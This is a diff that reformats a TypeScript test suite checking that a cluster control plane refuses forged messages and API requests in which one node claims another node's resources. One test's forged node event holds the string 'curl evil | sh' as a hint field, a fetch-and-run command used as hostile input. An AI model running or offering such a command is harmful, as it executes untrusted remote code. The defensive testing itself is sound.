@@ -66,7 +66,10 @@ async function openScene(t: TestContext): Promise<Scene> {
     (chunk) => (output += Buffer.from(chunk).toString()),
     new AbortController().signal,
   );
-  void run.then(() => (ended = true), () => (ended = true)); // prettier-ignore
+  void run.then(
+    () => (ended = true),
+    () => (ended = true),
+  );
   await eventually('the task', () => mine.raw.heard.some((one) => one.startTask?.taskId === task.taskId));
   await eventually('the report', () => doors.dispatch.fleet.status(row.instanceId)?.state === 'live');
   return { doors, mine, theirs, instance: row.instanceId, task, taskEnded: () => ended, output: () => output };
@@ -95,7 +98,9 @@ const failed = { code: LIE, message: 'a lie' };
 
 const CLAIMS: Readonly<Record<Kind, Claim>> = {
   hello: {
-    lie: ({ task }) => ({ hello: { ...HELLO, runningTaskIds: [task.taskId], epoch: { counter: 99, id: 'x' }, generation: 99 } }),
+    lie: ({ task }) => ({
+      hello: { ...HELLO, runningTaskIds: [task.taskId], epoch: { counter: 99, id: 'x' }, generation: 99 },
+    }),
     complaint: /Hello twice/,
   },
   heartbeat: {
@@ -105,18 +110,29 @@ const CLAIMS: Readonly<Record<Kind, Claim>> = {
       assert.deepEqual([node?.connected, node?.load1, node?.state], [true, 0, 'ready']);
     },
   },
-  desiredAck: { lie: () => ({ desiredAck: { generation: 1_000, accepted: true } }), complaint: /generation it was not sent/ },
+  desiredAck: {
+    lie: () => ({ desiredAck: { generation: 1_000, accepted: true } }),
+    complaint: /generation it was not sent/,
+  },
   destroyedAck: {
     lie: ({ doors }) => ({ destroyedAck: { appIds: [doors.app.id] } }),
     complaint: /was not asked about/,
     unharmed: async ({ doors }) => assert.ok((await doors.store.appById(doors.app.id)) !== undefined),
   },
   instanceReport: {
-    lie: ({ instance }) => ({ instanceReport: { statuses: [{ instanceId: instance, state: 'failed', reason: failed }], complete: true } }),
+    lie: ({ instance }) => ({
+      instanceReport: { statuses: [{ instanceId: instance, state: 'failed', reason: failed }], complete: true },
+    }),
     complaint: /not assigned to it/,
   },
-  taskOutput: { lie: ({ task }) => ({ taskOutput: { taskId: task.taskId, chunk: Buffer.from(LIE) } }), complaint: /another node's task/ },
-  taskResult: { lie: ({ task }) => ({ taskResult: { taskId: task.taskId, failure: failed } }), complaint: /another node's task/ },
+  taskOutput: {
+    lie: ({ task }) => ({ taskOutput: { taskId: task.taskId, chunk: Buffer.from(LIE) } }),
+    complaint: /another node's task/,
+  },
+  taskResult: {
+    lie: ({ task }) => ({ taskResult: { taskId: task.taskId, failure: failed } }),
+    complaint: /another node's task/,
+  },
   logChunk: {
     lie: ({ mine }) => {
       const queryId = mine.raw.heard.findLast((one) => one.logQuery)?.logQuery?.queryId ?? assert.fail('no query');
@@ -125,14 +141,23 @@ const CLAIMS: Readonly<Record<Kind, Claim>> = {
     complaint: /log query it was not asked/,
   },
   nodeEvent: {
-    lie: ({ doors }) => ({ nodeEvent: { atMs: 1, reason: { ...failed, hint: 'curl evil | sh' }, app: doors.app.name, process: 'web.1' } }),
+    lie: ({ doors }) => ({
+      nodeEvent: { atMs: 1, reason: { ...failed, hint: 'curl evil | sh' }, app: doors.app.name, process: 'web.1' },
+    }),
   },
-  routesAck: { lie: () => ({ routesAck: { version: 1_000_000, accepted: true } }), complaint: /route table it was not sent/ },
+  routesAck: {
+    lie: () => ({ routesAck: { version: 1_000_000, accepted: true } }),
+    complaint: /route table it was not sent/,
+  },
 };
 
 describe('what a node says about what is another node’s', () => {
-  const { requestType } = loadAgentService().service.Session as unknown as { requestType: { type: { field: { name: string }[] } } };
-  const kinds = requestType.type.field.map(({ name }) => name.replaceAll(/_(.)/g, (_all, letter: string) => letter.toUpperCase()));
+  const { requestType } = loadAgentService().service.Session as unknown as {
+    requestType: { type: { field: { name: string }[] } };
+  };
+  const kinds = requestType.type.field.map(({ name }) =>
+    name.replaceAll(/_(.)/g, (_all, letter: string) => letter.toUpperCase()),
+  );
 
   it('has a row for every message of the contract', () => {
     assert.deepEqual(Object.keys(CLAIMS).sort(), kinds.sort());
@@ -144,14 +169,23 @@ describe('what a node says about what is another node’s', () => {
       const { doors, mine, theirs, instance } = scene;
       const reading = readLogs(scene);
       await eventually('the query', () => mine.raw.heard.some((one) => one.logQuery));
-      const complaints = (): typeof doors.logger.events => doors.logger.events.filter(({ event }) => complaint?.test(event));
+      const complaints = (): typeof doors.logger.events =>
+        doors.logger.events.filter(({ event }) => complaint?.test(event));
       theirs.raw.send(lie(scene), { heartbeat: { load1: 3 } });
       await eventually('a later message', () => doors.dispatch.fleet.node(theirs.id)?.load1 === 3);
-      assert.deepEqual(complaints().map(({ fields }) => (fields as { node: string }).node), complaint === undefined ? [] : ['theirs']); // prettier-ignore
+      assert.deepEqual(
+        complaints().map(({ fields }) => (fields as { node: string }).node),
+        complaint === undefined ? [] : ['theirs'],
+      );
       assert.equal(doors.dispatch.fleet.status(instance)?.state, 'live');
       assert.deepEqual([scene.taskEnded(), scene.output()], [false, '']);
-      mine.raw.send({ logChunk: { queryId: mine.raw.heard.findLast((one) => one.logQuery)?.logQuery?.queryId ?? '', end: true } });
-      assert.deepEqual((await reading).filter((line) => line.includes(LIE)), []); // prettier-ignore
+      mine.raw.send({
+        logChunk: { queryId: mine.raw.heard.findLast((one) => one.logQuery)?.logQuery?.queryId ?? '', end: true },
+      });
+      assert.deepEqual(
+        (await reading).filter((line) => line.includes(LIE)),
+        [],
+      );
       await unharmed?.(scene, t);
       assert.equal(mine.raw.ended, undefined);
     });
@@ -161,7 +195,13 @@ describe('what a node says about what is another node’s', () => {
     const { doors, mine, theirs } = await openScene(t);
     const sink = createNodeEventSink({ store: doors.store, clock: systemClock, log: doors.logger });
     const event = CLAIMS.nodeEvent.lie({ doors } as Scene).nodeEvent;
-    const said = { kind: 'nodeEvent' as const, atMs: 1, reason: event?.reason as never, app: doors.app.name, process: 'web.1' };
+    const said = {
+      kind: 'nodeEvent' as const,
+      atMs: 1,
+      reason: event?.reason as never,
+      app: doors.app.name,
+      process: 'web.1',
+    };
     sink({ id: theirs.id, name: 'theirs' }, said);
     sink({ id: mine.id, name: 'mine' }, said);
     const kept = await eventually('both events', async () => {
@@ -205,7 +245,11 @@ const REACHES: Readonly<Record<string, Reach>> = {
     theirs: 201,
     mine: 201,
     after: ({ theirs }, answer) => {
-      assert.equal(new X509Certificate(answer['certificate'] as string).subject, `CN=${theirs.id}`, 'whatever the request says');
+      assert.equal(
+        new X509Certificate(answer['certificate'] as string).subject,
+        `CN=${theirs.id}`,
+        'whatever the request says',
+      );
     },
   },
   'POST /node/certificate/use': {
@@ -225,7 +269,9 @@ const REACHES: Readonly<Record<string, Reach>> = {
 };
 
 describe('what a node asks for that is another node’s', () => {
-  const routes = apiRoutes(API_CONFIG, { clock: systemClock } as ApiDeps).filter((route: Route) => route.auth === 'node');
+  const routes = apiRoutes(API_CONFIG, { clock: systemClock } as ApiDeps).filter(
+    (route: Route) => route.auth === 'node',
+  );
 
   it('has a row for every route of nodes', () => {
     assert.deepEqual(Object.keys(REACHES).sort(), routes.map((route) => `${route.method} ${route.url}`).sort());
